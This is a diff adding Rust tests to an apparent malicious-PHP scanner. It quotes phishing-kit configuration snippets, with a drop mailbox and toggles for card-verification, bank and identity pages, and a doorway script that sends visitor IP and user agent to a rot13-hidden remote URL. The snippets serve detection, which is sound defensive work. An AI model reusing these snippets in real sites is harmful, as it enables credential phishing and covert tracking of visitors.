@@ -949,3 +949,29 @@ fn a_page_dressed_as_the_visitors_own_mail_provider_is_a_lure() {
     let profile = "<?php $u = get_user($_GET['id']); list($name, $dom) = explode('@', $u->email); echo '<link rel=\"icon\" href=\"/favicon.ico\">';";
     assert!(dressed_as_visitors_provider(profile.as_bytes()).is_none());
 }
+
+#[test]
+fn a_kits_settings_switching_its_steps_beside_a_mailbox_are_found() {
+    // fresh140's `Config.php` and fresh142's CRACKERZ `config.php`.
+    let config = "<?php\nrequire_once __DIR__.'/functions/PHPMailer-master/PHPMailerAutoload.php';\n$to = 'email@gmail.com';\n\
+                  $SETTING_SAFE = 1; // warning page\n$SETTING_VBV = 1; // vbv\n$SETTING_BANK = 1;\n$SETTING_IDENTITY = 1;\n";
+    assert!(kit_mailbox(config.as_bytes()).is_some());
+    let crackerz = "<?php\n\t$sp_name = \"CRACKERZ\";\n\t$send_email = \"youremail@gmail.com\";\n\t$secure_page = true;\n\t$bank_page = true;\n\t$identity_page = false;\n";
+    assert!(kit_mailbox(crackerz.as_bytes()).is_some());
+    // A shop's settings: its own address, one payment switch.
+    let shop =
+        "<?php\n$admin_mail = 'shop.owner@gmail.com';\n$bank_transfer = true;\n$currency = 'EUR';\n$tax = 0.25;\n";
+    assert!(kit_mailbox(shop.as_bytes()).is_none());
+}
+
+#[test]
+fn visitors_sent_to_an_address_hidden_in_rot13_are_a_doorways_remote() {
+    // fresh152's `___php_http_request` in front of Joomla's `defines.php`.
+    let src = "<?php class R { function request($u, $p) { $h = curl_init($u); curl_setopt($h, CURLOPT_POSTFIELDS, $p); return curl_exec($h); } }\n\
+               $post = array('REMOTE_ADDR' => $_SERVER['REMOTE_ADDR'], 'HTTP_USER_AGENT' => $_SERVER['HTTP_USER_AGENT']);\n\
+               $req = new R(); echo $req->request(str_rot13('uggc://fho026.choyvpqaffreire.bet/etj.cuc'), $post);";
+    assert_eq!(found(src), [Why::SendsRequestToHiddenAddress]);
+    let plain =
+        src.replace("str_rot13('uggc://fho026.choyvpqaffreire.bet/etj.cuc')", "'https://stats.example.org/hit'");
+    assert!(found(&plain).is_empty(), "{:?}", found(&plain));
+}
